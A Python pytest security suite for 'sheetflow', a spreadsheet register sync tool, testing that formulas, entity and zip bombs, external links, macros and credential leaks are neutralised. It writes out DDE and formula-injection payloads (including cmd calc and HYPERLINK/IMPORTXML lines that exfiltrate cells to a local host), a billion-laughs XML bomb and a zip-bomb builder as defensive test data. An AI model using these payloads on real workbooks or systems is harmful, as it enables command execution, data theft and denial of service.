"""Security: nothing sync writes becomes a formula, hostile workbooks (entity and zip
bombs, external links, macros) are refused or neutralised within bounds, credentials
never leak into output, logs or files, backups keep the register's permissions, and the
planner survives arbitrary cell values."""

from __future__ import annotations

import json
import logging
import re
import stat
import subprocess
import sys
import time
import zipfile
from datetime import date, datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import figures
import openpyxl
import pytest
from click.testing import CliRunner
from emulator import make_service_account
from files import new_register
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from registers import register_rows
from servers import serving
from support import DAY_H, WORKFLOW, MemoryRegister, handed_over, rejected

from sheetflow import api
from sheetflow.cli import cli

HEADERS = {c.header for c in WORKFLOW.columns}

# ---------------------------------------------------------------- formula injection
PAYLOADS = {
    "dde": "=cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "hyperlink": '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klik")',
    "import": '=IMPORTXML(CONCAT("http://127.0.0.1:9/?",A2),"//a")',
}


def injected_rows(payload: str) -> tuple[dict[str, Any], ...]:
    """The payload typed by staff into every text column sync copies somewhere."""
    return (
        rejected(activity_name=payload, team_name=payload, reviewer=payload, response=payload),
        handed_over(activity_name=payload, team_name=payload, activity_date=payload, documentation_links=payload),
    )


def worksheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()
                if name.startswith("xl/worksheets/") and name.endswith(".xml")}


@pytest.fixture(params=sorted(PAYLOADS))
def injected(request, tmp_path):
    payload = PAYLOADS[request.param]
    path = new_register(tmp_path, *injected_rows(payload))
    api.sync_register(path, now=DAY_H)
    return payload, path


def test_no_formula_appears_in_any_sheet_sync_wrote(injected):
    _, path = injected
    with_formula = [name for name, xml in worksheet_xml(path).items() if re.search(r"<f[ >]", xml)]
    figures.record("security", tried=1, survived=int(not with_formula))
    assert with_formula == []


@pytest.mark.parametrize("sheet", [WORKFLOW.sheets.history, WORKFLOW.sheets.recap])
def test_the_payload_reaches_the_sheet_as_text(injected, sheet):
    payload, path = injected
    typed = " ".join(payload.split())  # names are written as people read them, spaces folded
    cells = [c for row in openpyxl.load_workbook(path)[sheet].iter_rows() for c in row if c.value is not None]
    assert {(c.data_type, type(c.value)) for c in cells if typed in str(c.value)} == {("s", str)}


def test_catatan_sistem_quotes_the_payload_as_text(injected):
    _, path = injected
    sheet = openpyxl.load_workbook(path)[WORKFLOW.sheets.register_]
    column = next(c.column for c in sheet[1] if c.value == "Catatan Sistem")
    notes = [sheet.cell(row, column) for row in (2, 3)]
    assert {(c.data_type, bool(c.value)) for c in notes} == {("s", True)}


def test_the_paper_copy_has_no_action_or_link_from_the_payload(injected, tmp_path):
    _, path = injected
    pdf = api.print_register(path, tmp_path / "pdf", start=date(2024, 7, 1), end=date(2024, 7, 31), now=DAY_H)
    content = pdf.read_bytes()
    # fpdf2 opens the document at a view (/OpenAction [page /FitH]); an action would be a dictionary.
    actions = [m for m in (rb"/JavaScript", rb"/JS\b", rb"/Launch", rb"/URI", rb"/OpenAction\s*<<", rb"/SubmitForm")
               if re.search(m, content)]
    assert actions == []


def test_the_paper_copy_prints_the_payload_as_text(injected, tmp_path):
    payload, path = injected
    pdf = api.print_register(path, tmp_path / "pdf", start=date(2024, 7, 1), end=date(2024, 7, 31), now=DAY_H)
    text = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    visible = " ".join(payload.split())[:12]
    assert visible in " ".join(text.split())


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_on_google_every_cell_sync_writes_is_a_value_never_a_formula(google_register, emulator, name):
    register = google_register(*injected_rows(PAYLOADS[name]))
    emulator.reset_log()
    register.sync()
    writes = json.dumps([r["body"] for r in emulator.requests if r["kind"] == "write"])
    figures.record("security", tried=1, survived=int("formulaValue" not in writes))
    assert ("formulaValue" in writes, '"stringValue"' in writes) == (False, True)


# ---------------------------------------------------------------- hostile workbooks
LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)) + "]>"
SHARED = ('<?xml version="1.0" encoding="UTF-8"?>' + LAUGHS +
          '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
          "<si><t>&lol9;</t></si></sst>")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rebuilt(source: Path, target: Path, change: dict[str, Any]) -> Path:
    """A copy of the workbook with parts replaced (a callable gets the old text) or added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename in change:
                replacement = change[item.filename]
                data = replacement(data.decode()).encode() if callable(replacement) else replacement
            new.writestr(item.filename, data)
        for name, data in change.items():
            if name not in old.namelist():
                new.writestr(name, data)
    return target


def declared(content_type: str, relationship: str) -> dict[str, Any]:
    """The edits that make an added part belong to the workbook: its content type, and the
    workbook's relationship to it (for ``rebuilt``)."""
    return {
        "[Content_Types].xml": lambda xml: xml.replace("</Types>", content_type + "</Types>"),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace("</Relationships>", relationship + "</Relationships>"),
    }


def entity_bomb_in_sheet(folder: Path) -> Path:
    def bomb(xml: str) -> str:
        xml = re.sub(r"^<\?xml[^>]*\?>", "", xml)
        return '<?xml version="1.0" encoding="UTF-8"?>' + LAUGHS + xml.replace("Rapat koordinasi kalurahan",
                                                                                "&lol9;", 1)

    source = new_register(folder, handed_over(), name="asal.xlsx")
    return rebuilt(source, folder / "register.xlsx", {"xl/worksheets/sheet1.xml": bomb})


def entity_bomb_in_shared_strings(folder: Path) -> Path:
    source = new_register(folder, handed_over(), name="asal.xlsx")
    return rebuilt(source, folder / "register.xlsx", {
        "xl/sharedStrings.xml": SHARED.encode(),
        **declared('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.spreadsheetml.sharedStrings+xml"/>',
                   f'<Relationship Id="rIdBomb" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>'),
        "xl/worksheets/sheet1.xml": lambda xml: xml.replace(
            "<c r=\"C2\" t=\"inlineStr\"><is><t>Rapat koordinasi kalurahan</t></is></c>",
            '<c r="C2" t="s"><v>0</v></c>'),
    })


GIB = 1024**3


def zip_bomb(folder: Path, inflated: int = GIB) -> Path:
    """A register whose first sheet inflates to ``inflated`` bytes of blanks (about 1 MB on disk)."""
    source = new_register(folder, handed_over(), name="asal.xlsx")
    target = folder / "register.xlsx"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                new.writestr(item.filename, data)
                continue
            head, tail = data.split(b"<sheetData>", 1)
            with new.open(item.filename, "w", force_zip64=True) as stream:
                stream.write(head + b"<sheetData>")
                blank = b" " * (1024**2)
                for _ in range(inflated // len(blank)):
                    stream.write(blank)
                stream.write(tail)
    return target


# Runs the CLI in a child and reports that child's peak memory, unmixed with other children of pytest.
MEASURE = """
import json, resource, subprocess, sys
done = subprocess.run(sys.argv[2:], capture_output=True, text=True)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
open(sys.argv[1], "w").write(json.dumps([done.returncode, done.stdout, done.stderr, peak]))
"""


def run_measured(path: Path, command: str, timeout: float = 60) -> dict[str, Any]:
    report = path.with_name("ukuran.json")
    started = time.monotonic()
    subprocess.run([sys.executable, "-c", MEASURE, str(report), sys.executable, "-m", "sheetflow", command,
                    str(path), "--now", "2024-07-03T10:00"], timeout=timeout, check=True)
    code, out, err, peak = json.loads(report.read_text())
    return {"code": code, "out": out, "err": err, "peak": peak, "seconds": time.monotonic() - started}


BOMBS = {"sheet": entity_bomb_in_sheet, "shared-strings": entity_bomb_in_shared_strings}
MEMORY_BOUND = 400 * 1024**2


@pytest.mark.parametrize("command", ["check", "sync"])
@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_an_entity_bomb_is_never_expanded(tmp_path, bomb, command):
    path = BOMBS[bomb](tmp_path)
    before = path.read_bytes()
    run = run_measured(path, command)
    figures.record("security", tried=1, faults=1, survived=int(run["peak"] < MEMORY_BOUND),
                   note=f"entity bomb in {bomb}: {run['peak'] / 1024**2:.0f} MB, {run['seconds']:.1f} s")
    assert (run["peak"] < MEMORY_BOUND, path.read_bytes() == before) == (True, True)


@pytest.mark.parametrize("bomb", ["sheet", "shared-strings"])
def test_an_entity_bomb_is_refused_in_one_sentence(tmp_path, bomb):
    run = run_measured(BOMBS[bomb](tmp_path), "sync")
    assert (run["code"], len(run["err"].strip().splitlines()), "bukan berkas Excel" in run["err"]) == (3, 1, True)


@pytest.mark.slow
def test_a_zip_bomb_is_handled_within_a_minute(tmp_path):
    path = zip_bomb(tmp_path)
    run = run_measured(path, "check")
    figures.record("security", tried=1, faults=1, survived=int(run["code"] in (0, 3)),
                   note=f"zip bomb 1 MB -> 1 GiB: exit {run['code']}, {run['peak'] / 1024**2:.0f} MB, "
                        f"{run['seconds']:.1f} s")
    assert run["code"] in (0, 3) and "Traceback" not in run["err"]


@pytest.mark.slow
def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path):
    run = run_measured(zip_bomb(tmp_path), "check")
    assert (run["code"], run["peak"] < MEMORY_BOUND) == (3, True)


@pytest.fixture
def listener():
    """An HTTP server on 127.0.0.1 that records who calls it: (its address, the paths asked for)."""
    hits: list[str] = []

    class Counting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with serving(Counting) as url:
        yield url, hits


def external_link(folder: Path, url: str) -> Path:
    source = new_register(folder, handed_over(), name="asal.xlsx")
    link = (f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="Data"/></sheetNames></externalBook></externalLink>')
    link_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 f'<Relationship Id="rId1" Type="{RELS}/externalLinkPath" Target="{url}/rahasia.xlsx" '
                 'TargetMode="External"/></Relationships>')
    return rebuilt(source, folder / "register.xlsx", {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode(),
        **declared('<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
                   f'<Relationship Id="rIdLink" Type="{RELS}/externalLink" Target="externalLinks/externalLink1.xml"/>'),
        "xl/workbook.xml": lambda xml: xml.replace(
            "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdLink"/></externalReferences>'),
    })


def test_an_external_link_is_never_followed(tmp_path, listener):
    url, hits = listener
    path = external_link(tmp_path, url)
    api.sync_register(path, now=DAY_H)
    api.print_register(path, tmp_path / "pdf", now=DAY_H)
    assert hits == []


def test_a_workbook_with_an_external_link_still_syncs(tmp_path, listener):
    url, _ = listener
    path = external_link(tmp_path, url)
    result = api.sync_register(path, now=DAY_H)
    assert [WORKFLOW.status[r.after].label for r in result.plan.rows] == ["Menunggu Pemeriksaan"]


VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8  # an OLE header; the body is not run


def with_macros(folder: Path, suffix: str) -> Path:
    source = new_register(folder, handed_over(), name="asal.xlsx")
    return rebuilt(source, folder / f"register{suffix}", {
        "xl/vbaProject.bin": VBA,
        **declared('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                   '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                   'Target="vbaProject.bin"/>'),
    })


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_macros_smuggled_into_an_xlsx_are_dropped_by_a_sync(tmp_path):
    path = with_macros(tmp_path, ".xlsx")
    api.sync_register(path, now=DAY_H)
    assert [name for name in parts(path) if "vba" in name.lower()] == []


def test_an_xlsm_keeps_its_macros_byte_for_byte_and_sync_runs_none(tmp_path):
    # Excel refuses an .xlsm saved without its macros; sheetflow carries them, never runs them.
    path = with_macros(tmp_path, ".xlsm")
    api.sync_register(path, now=DAY_H)
    assert parts(path)["xl/vbaProject.bin"] == VBA


# ---------------------------------------------------------------- credentials never leak
def secrets_of(key: Path) -> list[str]:
    info = json.loads(key.read_text())
    body = [line for line in info["private_key"].splitlines() if line and not line.startswith("-----")]
    return [info["private_key_id"], *body]


@pytest.fixture
def leaking(emulator, service_key, monkeypatch, caplog, tmp_path):
    """Runs the CLI against the emulator; returns everything it said, logged or wrote, and the secrets."""
    issued: list[Any] = []
    original = api.Connection.__init__

    def session(credentials: Any) -> Any:
        issued.append(credentials)
        return emulator.session(credentials)

    def init(self: Any, credentials: Any = None, session_: Any = None, sleep: Any = None, **kwargs: Any) -> None:
        kwargs.pop("session", None)
        original(self, credentials=credentials, session=session, sleep=lambda seconds: None, **kwargs)

    monkeypatch.setattr(api.Connection, "__init__", init)
    caplog.set_level(logging.DEBUG)

    def run(*args: str) -> tuple[str, list[str]]:
        result = CliRunner().invoke(cli, [*args, "--credentials", str(service_key)])
        written = "".join(p.read_text(errors="replace") for p in tmp_path.rglob("*") if p.is_file()
                          and p.suffix != ".json")
        said = "\n".join([result.output, caplog.text, written, repr(result.exception or "")])
        tokens = [c.token for c in issued if getattr(c, "token", None)]
        return said, [*secrets_of(service_key), *tokens]

    return run


FAILING = {
    "403-not-shared": lambda emu: emu.create_spreadsheet("Register", {"Register": register_rows(())}),
    "404-wrong-id": lambda emu: "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg",
    "500-exhausted": lambda emu: (emu.fail(500, times=200), emu.create_spreadsheet(
        "Register", {"Register": register_rows((handed_over(),))}, shared_with=[
            "sheetflow@kapanewon-test.iam.gserviceaccount.com"]))[1],
    "429-on-write": lambda emu: (emu.fail(429, kind="write", times=200), emu.create_spreadsheet(
        "Register", {"Register": register_rows((handed_over(),))}, shared_with=[
            "sheetflow@kapanewon-test.iam.gserviceaccount.com"]))[1],
}


@pytest.mark.parametrize("failure", sorted(FAILING))
@pytest.mark.parametrize("command", ["sync", "check"])
def test_no_secret_appears_in_output_or_logs_when_google_fails(leaking, emulator, failure, command):
    said, secrets = leaking(command, f"gsheet:{FAILING[failure](emulator)}")
    leaked = [s[:8] for s in secrets if s in said]
    figures.record("security", tried=1, faults=1, survived=int(not leaked))
    assert (leaked, bool(said.strip())) == ([], True)


def test_no_secret_appears_in_a_configured_run_log(leaking, emulator, tmp_path, monkeypatch):
    spreadsheet_id = FAILING["403-not-shared"](emulator)
    log = tmp_path / "log" / "sheetflow.log"
    (tmp_path / "sheetflow.toml").write_text(
        f'[[registers]]\nname = "Kapanewon"\nsource = "gsheet:{spreadsheet_id}"\n\n[log]\nfile = "{log}"\n',
        encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    said, secrets = leaking("sync", "--config", str(tmp_path / "sheetflow.toml"))
    assert ([s[:8] for s in secrets if s in said], "Kapanewon" in log.read_text()) == ([], True)


def test_a_refused_key_is_named_by_its_account_not_its_contents(emulator, tmp_path, monkeypatch, leaking):
    wrong = make_service_account(tmp_path / "salah", emulator, register=False)
    spreadsheet_id = FAILING["403-not-shared"](emulator)
    result = CliRunner().invoke(cli, ["sync", f"gsheet:{spreadsheet_id}", "--credentials", str(wrong)])
    assert ([s[:8] for s in secrets_of(wrong) if s in result.output], result.exit_code) == ([], 3)


# ---------------------------------------------------------------- backups keep permissions
MODES = [0o600, 0o640, 0o664]


@pytest.mark.parametrize("mode", MODES, ids=oct)
def test_the_saved_register_keeps_its_permissions(tmp_path, mode):
    path = new_register(tmp_path, handed_over())
    path.chmod(mode)
    api.sync_register(path, now=DAY_H)
    assert stat.S_IMODE(path.stat().st_mode) == mode


@pytest.mark.parametrize("mode", MODES, ids=oct)
def test_the_backup_keeps_the_registers_permissions(tmp_path, mode):
    path = new_register(tmp_path, handed_over())
    path.chmod(mode)
    api.sync_register(path, now=DAY_H)
    assert stat.S_IMODE(path.with_name(path.name + ".bak").stat().st_mode) == mode


def test_an_older_wider_backup_is_narrowed_to_the_registers_permissions(tmp_path):
    path = new_register(tmp_path, handed_over())
    backup = path.with_name(path.name + ".bak")
    backup.write_bytes(b"old")
    backup.chmod(0o666)
    path.chmod(0o600)
    api.sync_register(path, now=DAY_H)
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600


# ---------------------------------------------------------------- the planner fuzzed
ANY_CELL = st.one_of(
    st.none(), st.text(max_size=40), st.text(st.sampled_from("=+-@\t\r\n \u00a0\u200b\u200e#!/:.0123456789aYT"),
                                             max_size=12),
    st.integers(-10**18, 10**18), st.floats(allow_nan=True, allow_infinity=True), st.booleans(),
    st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)), st.dates(),
)
ANY_ROW = st.fixed_dictionaries({c.key: ANY_CELL for c in WORKFLOW.columns})
FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(st.lists(ANY_ROW, min_size=1, max_size=3))
def test_planning_arbitrary_cells_never_raises_and_names_workflow_columns(rows):
    plan = MemoryRegister.of(*rows).sync()
    assert {f.column for f in plan.findings} <= HEADERS
    assert {f.row for f in plan.findings} <= set(range(2, 2 + len(rows)))


@FUZZ
@given(st.lists(ANY_ROW, min_size=1, max_size=3))
def test_a_second_plan_over_arbitrary_cells_changes_nothing(rows):
    register = MemoryRegister.of(*rows)
    register.sync()
    assert not register.sync().changed
